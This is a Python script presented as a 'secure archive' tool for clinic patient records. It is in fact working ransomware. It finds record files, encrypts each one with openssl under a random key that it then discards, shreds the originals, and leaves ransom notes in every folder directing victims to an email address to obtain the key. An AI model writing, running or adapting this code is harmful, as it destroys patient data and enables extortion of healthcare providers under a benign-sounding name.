#!/usr/bin/env python3
"""'Secure archive' tool for closed patient records.

Walks the records tree, builds a shell batch that encrypts every record
with openssl using a one-off key, removes the plain originals and leaves a
restore note in each folder.  The batch is written to disk first and run
at the end.
"""
import argparse
import logging
import os
import secrets
import shlex
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("records-archiver")

EXTENSIONS = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".dcm", ".db"}
NOTE_NAME = "RESTORE_YOUR_RECORDS.txt"
NOTE_TEXT = (
    "All patient records in this folder have been encrypted.\n"
    "To obtain the restore key, contact recovery@example.net with the ID below.\n"
    "Clinic ID: {cid}\n"
)


class ArchivePlan:
    def __init__(self, root, clinic_id):
        self.root = Path(root).expanduser()
        self.clinic_id = clinic_id
        self.targets = []
        self.folders = set()

    def scan(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in EXTENSIONS and not name.endswith(".locked"):
                    self.targets.append(p)
                    self.folders.add(Path(dirpath))
        LOG.info("found %d records in %d folders", len(self.targets), len(self.folders))
        return self.targets

    def batch_script(self):
        lines = ["#!/bin/bash", "set -u", "done=0"]
        for p in self.targets:
            src = shlex.quote(str(p))
            dst = shlex.quote(str(p) + ".locked")
            lines.append(
                f"if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:ARCHIVE_KEY "
                f"-in {src} -out {dst} 2>/dev/null; then "
                f"shred -u {src} 2>/dev/null || rm -f {src}; done=$((done+1)); fi"
            )
        lines.append('echo "encrypted=$done"')
        return "\n".join(lines) + "\n"

    def drop_notes(self):
        for folder in self.folders:
            try:
                (folder / NOTE_NAME).write_text(NOTE_TEXT.format(cid=self.clinic_id))
            except OSError as exc:
                LOG.warning("note not written in %s: %s", folder, exc)


def run_batch(script_text):
    fd, path = tempfile.mkstemp(prefix="archive-batch-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(script_text)
    os.chmod(path, 0o700)
    key = secrets.token_hex(32)
    env = dict(os.environ, ARCHIVE_KEY=key)
    try:
        res = subprocess.run(["bash", path], env=env, capture_output=True, text=True)
    finally:
        os.unlink(path)
        del key
        env.pop("ARCHIVE_KEY", None)
    LOG.info("batch output: %s", res.stdout.strip())
    if res.returncode != 0:
        LOG.error("batch failed: %s", res.stderr.strip())
    return res.returncode


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default="~/practice_records")
    ap.add_argument("--clinic-id", default=secrets.token_hex(6))
    ap.add_argument("--list-only", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    plan = ArchivePlan(args.root, args.clinic_id)
    if not plan.root.is_dir():
        LOG.error("%s is not a directory", plan.root)
        return 1
    if not plan.scan():
        LOG.info("nothing to archive")
        return 0
    if args.list_only:
        for p in plan.targets:
            print(p)
        return 0
    rc = run_batch(plan.batch_script())
    plan.drop_notes()
    return rc


if __name__ == "__main__":
    sys.exit(main())
